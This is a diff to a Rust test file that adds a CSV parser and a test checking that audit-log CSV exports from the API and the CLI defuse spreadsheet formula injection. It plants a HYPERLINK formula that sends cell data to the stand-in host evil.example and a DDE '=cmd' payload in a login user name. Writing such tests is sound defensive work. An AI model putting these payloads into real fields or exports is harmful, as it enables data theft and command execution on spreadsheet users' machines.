@@ -542,3 +542,115 @@ async fn action_prefixes_page_exactly_like_a_walk_of_the_chain() {
         }
     }
 }
+
+/// The cells of a CSV text (RFC 4180: quoted cells may hold separators,
+/// doubled quotes and line breaks), row by row.
+pub fn csv_cells(text: &str) -> Vec<Vec<String>> {
+    let mut rows = vec![];
+    let mut row = vec![];
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = text.chars().peekable();
+    while let Some(ch) = chars.next() {
+        match (quoted, ch) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') if cell.is_empty() => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    rows
+}
+
+/// The probe's vector: a sign-in that needs no credential plants a formula
+/// in the User-Agent and the user name. Every export must show it as text.
+pub const FORMULA_AGENT: &str = "=HYPERLINK(\"http://evil.example/leak?d=\"&A2,\"Click\")";
+pub const FORMULA_USER: &str = "=cmd|' /C calc'!A0";
+
+/// Plants the vector (and a workspace named like a formula) in `default`.
+pub async fn plant_formulas(app: &TestApp, session: &str) {
+    let r = app
+        .client
+        .post(app.url("/api/v1/auth/login"))
+        .header("user-agent", FORMULA_AGENT)
+        .json(&json!({ "organization": "default", "user_name": FORMULA_USER, "password": "whatever it is" }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 401);
+    app.create_workspace(session, "+SUM(1,2)").await;
+    app.create_workspace(session, "@formula").await;
+}
+
+/// No cell of a CSV export may start like a formula; the planted values are
+/// there, as text behind a `'`.
+pub fn assert_formulas_defused(csv: &str) {
+    let rows = csv_cells(csv);
+    assert!(rows.len() > 1, "{csv}");
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell would run as a formula: {cell:?}"
+            );
+        }
+    }
+    let all: Vec<&String> = rows.iter().flatten().collect();
+    for planted in [FORMULA_AGENT, "+SUM(1,2)", "@formula"] {
+        let text = format!("'{planted}");
+        assert!(
+            all.iter().any(|c| **c == text),
+            "{planted} not kept as text in {csv}"
+        );
+    }
+    assert!(
+        all.iter().any(|c| c.contains(FORMULA_USER)),
+        "the user name is kept (as text) in {csv}"
+    );
+}
+
+#[tokio::test]
+async fn csv_exports_never_carry_a_live_formula() {
+    let app = TestApp::spawn().await;
+    let s = app.admin_session().await;
+    plant_formulas(&app, &s).await;
+    let csv = app.get(&format!("{LOGS}/export?format=csv"), &s).await;
+    assert_eq!(csv.status, 200);
+    assert_formulas_defused(&csv.text);
+    // The NDJSON export, which is verified by hash, keeps values as they were.
+    let ndjson = app.get(&format!("{LOGS}/export"), &s).await;
+    assert!(
+        ndjson.text.contains("\"user_agent\":\"=HYPERLINK("),
+        "{}",
+        ndjson.text
+    );
+
+    // The operator CLI's export is the same encoder.
+    let dir = std::env::temp_dir().join(format!("scimitar-csv-{}", uuid::Uuid::new_v4()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let file = dir.join("export.csv");
+    let out = app
+        .cli(&[
+            "audit",
+            "export",
+            "--org",
+            "default",
+            "--format",
+            "csv",
+            "--output",
+            file.to_str().unwrap(),
+        ])
+        .await;
+    assert_eq!(out.code, Some(0), "{}", out.stderr);
+    assert_formulas_defused(&std::fs::read_to_string(&file).unwrap());
+    std::fs::remove_dir_all(&dir).ok();
+}
